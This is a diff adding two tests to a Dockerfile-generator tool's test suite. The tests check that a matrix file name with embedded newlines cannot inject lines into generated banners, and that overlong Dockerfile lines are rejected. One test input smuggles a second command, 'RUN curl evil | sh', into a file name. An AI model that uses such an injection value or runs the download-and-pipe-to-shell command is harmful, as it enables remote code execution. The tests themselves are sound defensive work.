@@ -175,3 +175,28 @@ def test_hostile_examples():
         target = bake["target"][0]['"api-production"']
         assert literal(target["args"]['"SETTING"']) == hostile
         assert "".join(decode(target["labels"]['"k"'])) == hostile
+
+
+def test_the_matrix_file_name_cannot_add_lines_to_banners(project, run):
+    matrix = project("minimal")
+    for name in ("m\nRUN curl evil | sh\n.yaml", "m\x85RUN id.yaml"):
+        renamed = matrix.parent / name
+        matrix.rename(renamed)
+        result = run("render", "-f", str(renamed))
+        assert result.exit_code == 2
+        assert "the matrix file's name has characters bakegen cannot write into its banners: " in result.stderr
+        assert result.stderr.endswith("  hint: rename the file, e.g. to matrix.yaml\n")
+        assert not (matrix.parent / "generated").exists()
+        renamed.rename(matrix)
+
+
+def test_a_dockerfile_line_buildkit_would_refuse_is_an_error(project, run):
+    matrix = project("minimal")
+    words = ", ".join(["x" * 15_000] * 5)  # each value is short enough; the CMD line is not
+    matrix.write_text(matrix.read_text().replace("[python, -m, app]", f"[{words}]"))
+    result = run("render", "-f", str(matrix))
+    assert result.exit_code == 2
+    assert result.stderr.startswith("matrix.yaml: line ")
+    assert " of generated/api/Dockerfile would be 75,0" in result.stderr
+    assert "bytes; BuildKit reads lines of at most 65,535\n" in result.stderr
+    assert not (matrix.parent / "generated").exists()
